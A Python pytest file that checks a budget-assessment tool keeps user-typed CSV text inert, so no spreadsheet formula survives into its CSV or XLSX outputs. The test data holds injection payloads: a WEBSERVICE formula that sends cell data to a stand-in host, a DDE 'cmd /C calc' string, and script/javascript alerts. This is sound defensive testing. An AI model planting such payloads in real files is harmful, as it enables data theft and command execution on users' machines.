"""What strangers type into a csv stays text on its whole way: through a round, its review, its results."""

import csv
from pathlib import Path

import openpyxl
import pytest

from budget_index.cli import run
from budget_index.files import unescaped
from budget_index.regions import kazakhstan
from budget_index.rounds import read_inputs
from budget_index.tables.text_table import read_table
from tests.rounds.making import add, make_round, small, table

STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXTS = {
    "P01": '=WEBSERVICE("http://x/"&A1)', "P01/format": "-2+3+cmd|' /C calc'!A0", "E01": "@SUM(1+1)*cmd",
    "E02": "+1-[x](javascript:alert(1)) <script>alert(1)</script> $\\sqrt{x}$",
}  # fmt: skip
ANSWERS = {"P01": "a", "P01/format": "open", "E01": "95", "E02": "b"}


def quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    place = make_round(tmp_path / "rounds" / "ours")
    rows = [
        f"KZ-15,2026,{name},{quoted(who)},{answer},{quoted(TEXTS[name])}"
        for who in ("=1+1", "expert_2")
        for name, answer in (ANSWERS | ({"E02": "d"} if who == "expert_2" else {})).items()
    ]
    add(place, table(tmp_path / "@x.csv", *rows))
    return place


def formulas(folder: Path) -> list[tuple[str, str]]:
    """Give every cell of the tables and workbooks in a folder that a spreadsheet program would calculate."""
    cells = []
    for path in folder.rglob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as file:
            cells += [(path.name, cell) for row in csv.reader(file) for cell in row if cell.startswith(STARTS)]
    for path in folder.rglob("*.xlsx"):
        for sheet in openpyxl.load_workbook(path):
            cells += [(path.name, str(c.value)) for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    return [(name, cell) for name, cell in cells if not is_number(cell)]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.slow
def test_texts_are_kept_and_nowhere_calculated(folder, tmp_path):
    responses = read_inputs([folder], small(), kazakhstan()).responses
    of_first = responses[responses["assessor"] == "=1+1"].set_index("criterion")
    assert of_first["comment"].to_dict() == TEXTS
    stored = unescaped(read_table(folder / "responses.csv")[0], ["assessor", "comment"])
    assert set(stored["assessor"]) == {"=1+1", "expert_2"}
    out = tmp_path / "out"
    rules = ["--methodology", str(folder / "small.yaml")]
    assert run(["review", str(folder), *rules, "-o", str(out / "review")]) == 0
    assert run(["reply", str(folder), *rules, "-o", str(out / "reply")]) == 0
    for kind in ("csv", "xlsx"):
        assert run(["score", str(folder), "-o", str(out / kind), "--format", kind]) == 0
        assert run(["agreement", str(folder), "-o", str(out / kind), "--format", kind, "--samples", "0"]) == 0
    assert run(["round", "freeze", str(folder), "--with-open-matters"]) == 0
    assert {path.suffix for path in out.rglob("*.*")} == {".csv", ".xlsx"}
    assert formulas(out) == []
    assert [(name, cell) for name, cell in formulas(folder) if "x.csv" not in name] == []  # it is kept as it came
